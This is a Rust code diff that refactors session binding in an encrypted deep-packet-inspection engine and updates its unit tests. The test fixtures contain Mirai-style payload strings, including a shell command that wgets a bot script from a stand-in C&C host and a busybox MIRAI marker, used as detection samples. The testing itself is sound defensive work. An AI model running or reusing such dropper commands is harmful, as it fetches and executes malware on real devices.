@@ -27,7 +27,6 @@ use crate::evidence::{Evidence, EvidenceKind, Layer};
 use std::sync::Arc;
 use xlf_analytics::AcAutomaton;
 use xlf_lwcrypto::searchable::{match_rule, Token, TokenIndex, Tokenizer};
-use xlf_lwcrypto::CryptoError;
 use xlf_simnet::SimTime;
 
 /// One detection rule (keyword + name), following the signature-generation
@@ -206,21 +205,15 @@ impl EncryptedDpi {
 
     /// Binds the rule set to a session: the rule authority (who holds the
     /// session secret via the separate XLF Core ↔ service channel the
-    /// paper describes) compiles keyword tokens for this session and
-    /// indexes them for single-pass matching.
-    ///
-    /// # Errors
-    ///
-    /// Propagates [`CryptoError`] from tokenizer construction.
-    pub fn bind_session(&mut self, session_secret: &[u8]) -> Result<(), CryptoError> {
-        let tokenizer = Tokenizer::new(session_secret)?;
+    /// paper describes) compiles keyword tokens with the session's
+    /// tokenizer and indexes them for single-pass matching.
+    pub fn bind_session(&mut self, tokenizer: &Tokenizer) {
         self.compiled = self
             .rules
             .iter()
             .map(|r| tokenizer.rule_tokens(&r.keyword))
             .collect();
         self.index = TokenIndex::build(self.compiled.clone());
-        Ok(())
     }
 
     fn match_into(&self, tokens: &[Token], scratch: &mut Vec<Option<usize>>) -> Vec<DpiMatch> {
@@ -415,11 +408,11 @@ mod tests {
 
     #[test]
     fn encrypted_dpi_matches_without_plaintext() {
-        let mut middlebox = EncryptedDpi::new(rules());
-        middlebox.bind_session(b"session secret").unwrap();
-
-        // The endpoint tokenizes its (encrypted) payload.
+        // The endpoint tokenizes its (encrypted) payload; the rule
+        // authority compiles rules under the same session tokenizer.
         let endpoint = Tokenizer::new(b"session secret").unwrap();
+        let mut middlebox = EncryptedDpi::new(rules());
+        middlebox.bind_session(&endpoint);
         let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
         let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");
 
@@ -444,9 +437,9 @@ mod tests {
             b"hidden POST /cdn-cgi/ HTTP beacon",
         ];
         let plain = PlaintextDpi::new(rules());
-        let mut enc = EncryptedDpi::new(rules());
-        enc.bind_session(b"s").unwrap();
         let endpoint = Tokenizer::new(b"s").unwrap();
+        let mut enc = EncryptedDpi::new(rules());
+        enc.bind_session(&endpoint);
         for payload in payloads {
             let p_hit = !plain.inspect(payload).is_empty();
             let e_hit = !enc
@@ -460,9 +453,9 @@ mod tests {
     fn indexed_and_naive_encrypted_engines_agree() {
         let mut indexed = EncryptedDpi::new(rules());
         let mut naive = EncryptedDpi::new(rules()).with_naive_matching(true);
-        indexed.bind_session(b"s").unwrap();
-        naive.bind_session(b"s").unwrap();
         let endpoint = Tokenizer::new(b"s").unwrap();
+        indexed.bind_session(&endpoint);
+        naive.bind_session(&endpoint);
         for payload in [
             &b"wget${IFS}http://cnc.evil/bot.sh"[..],
             b"prefix /bin/busybox MIRAI suffix",
@@ -491,14 +484,14 @@ mod tests {
         let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();
 
         let mut single = EncryptedDpi::new(rules());
-        single.bind_session(b"s").unwrap();
+        single.bind_session(&endpoint);
         let expected: Vec<Vec<DpiMatch>> = streams
             .iter()
             .map(|t| single.inspect("d", t, SimTime::ZERO))
             .collect();
 
         let mut batched = EncryptedDpi::new(rules());
-        batched.bind_session(b"s").unwrap();
+        batched.bind_session(&endpoint);
         assert_eq!(
             batched.inspect_batch("d", &streams, SimTime::ZERO),
             expected
@@ -513,7 +506,7 @@ mod tests {
     #[test]
     fn wrong_session_tokens_never_match() {
         let mut middlebox = EncryptedDpi::new(rules());
-        middlebox.bind_session(b"session A").unwrap();
+        middlebox.bind_session(&Tokenizer::new(b"session A").unwrap());
         let other_endpoint = Tokenizer::new(b"session B").unwrap();
         let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
         assert!(middlebox.inspect("cam", &tokens, SimTime::ZERO).is_empty());
@@ -522,9 +515,9 @@ mod tests {
     #[test]
     fn matches_emit_evidence() {
         let (bus, drain) = EvidenceBus::new();
-        let mut middlebox = EncryptedDpi::new(rules()).with_bus(bus);
-        middlebox.bind_session(b"s").unwrap();
         let endpoint = Tokenizer::new(b"s").unwrap();
+        let mut middlebox = EncryptedDpi::new(rules()).with_bus(bus);
+        middlebox.bind_session(&endpoint);
         middlebox.inspect(
             "cam",
             &endpoint.tokenize(b"/bin/busybox MIRAI"),
